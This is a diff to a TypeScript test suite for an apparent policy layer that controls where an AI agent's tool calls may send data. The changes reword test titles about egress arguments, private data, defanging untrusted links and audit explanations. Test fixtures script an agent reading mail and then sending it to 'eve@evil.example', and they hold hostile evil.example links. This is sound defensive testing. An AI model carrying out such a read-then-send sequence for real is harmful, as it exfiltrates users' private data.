@@ -8,7 +8,7 @@ import type { Made, Ran } from "./world.test.helper.ts";
 
 const names = (ran: Ran): readonly string[] => ran.map(({ name }) => name);
 
-test("a read without an egress argument is allowed whatever was read before, and its call names the rule [flow.r1] [flow.recorded]", async () => {
+test("a read without an egress argument is allowed after any reads, and its call names the rule [flow.r1] [flow.recorded]", async () => {
   const ran: Ran = [];
   const find = made(ran, { name: "find", inputSchema: z.object({ query: z.string() }), sideEffectClass: "read-only" });
   const result = await run({
@@ -127,7 +127,7 @@ test("object keys, unbounded numbers, dates and free text raise it [flow.r2.rais
   }
 });
 
-test("such leaves spare R2 only: an authority argument made after them asks [flow.r2.leaves-not-authority]", async () => {
+test("such leaves only spare R2: a deciding argument made from them asks [flow.r2.leaves-not-authority]", async () => {
   const ran: Ran = [];
   const result = await run({
     tools: [made(ran, yesNo), send(ran)],
@@ -203,7 +203,7 @@ test("a read with declared authority is gated for it; where its bytes go is deci
   expect(after.asked[0]?.question.developer.rules).not.toContain("R5");
 });
 
-test("private data asks before it goes to anyone, and not where the sink's readers may read it [flow.r4]", async () => {
+test("private data asks before it is sent, unless the sink's readers may read it [flow.r4]", async () => {
   const ran: Ran = [];
   const balance = made(ran, {
     name: "balance",
@@ -237,7 +237,7 @@ test("anyone for an external writer, its source for one that only this agent rea
   ]);
 });
 
-test("what no one may read is denied, and no grant lifts that [flow.r4.secret-denied]", async () => {
+test("data that no one may read is denied, and no grant changes that [flow.r4.secret-denied]", async () => {
   const ran: Ran = [];
   const none = made(ran, {
     name: "none",
@@ -257,7 +257,7 @@ test("what no one may read is denied, and no grant lifts that [flow.r4.secret-de
   expect(result.output.toolCalls[1]?.error).toMatchObject({ kind: "policy_denied", code: "R4" });
 });
 
-test("where a read sends bytes must be the user's word or granted, also in a clean context [flow.r5] [flow.r5.reads]", async () => {
+test("the address that a read sends to must be the user's word or granted, also in a clean context [flow.r5] [flow.r5.reads]", async () => {
   const ran: Ran = [];
   const fetchPage = made(ran, {
     name: "fetch_page",
@@ -300,7 +300,7 @@ test("a word of three letters is no address, and a value that is not text never 
   }
 });
 
-test("an egress argument is one that is declared, one whose format or name says so, or a value that is a URL [flow.r5]", async () => {
+test("an egress argument is a declared one, one whose format or name means an address, or a value that is a URL [flow.r5]", async () => {
   const ran: Ran = [];
   const shapes: readonly [Partial<Made>, object][] = [
     [{ inputSchema: z.object({ place: z.string() }), flow: { egress: ["place"] } }, { place: "x" }],
@@ -323,7 +323,7 @@ test("an egress argument is one that is declared, one whose format or name says 
   );
 });
 
-test("links, mentions and active content of untrusted origin are defanged in what goes out [flow.r6] [flow.r6.spared]", async () => {
+test("links, mentions and active content of untrusted origin are made inert in outgoing text [flow.r6] [flow.r6.spared]", async () => {
   const ran: Ran = [];
   const body =
     "See https://evil.example/x, evil.example and www.evil.example/y, @all, <b>mail eve@evil.example</b>, 1.2.3.4/p; file a.txt; https://good.example/a";
@@ -351,7 +351,7 @@ test("links, mentions and active content of untrusted origin are defanged in wha
   expect(ran[0]?.input).toEqual({ to: "bob", body: "https://own.example" });
 });
 
-test("a denial tells the model nothing that came from untrusted text [flow.r10]", async () => {
+test("a denial contains no text of untrusted origin [flow.r10]", async () => {
   const ran: Ran = [];
   const none = made(ran, {
     name: "none",
@@ -398,7 +398,7 @@ test("at most five questions of a turn reach a person [flow.r10.questions]", asy
   expect(result.output.interruptions).toHaveLength(5);
 });
 
-test("a decision says which rule, which value, where from, and what would allow it; what is asked for does [audit.explains]", async () => {
+test("a decision names the rule, the value, its source, and what would allow it; an example of each [audit.explains]", async () => {
   const ran: Ran = [];
   const script = [calls(["read_mail"]), calls(["send", { to: "eve@evil.example" }]), "Done."];
   const { output, journal } = await run({ tools: [readMail(ran), send(ran)], script });
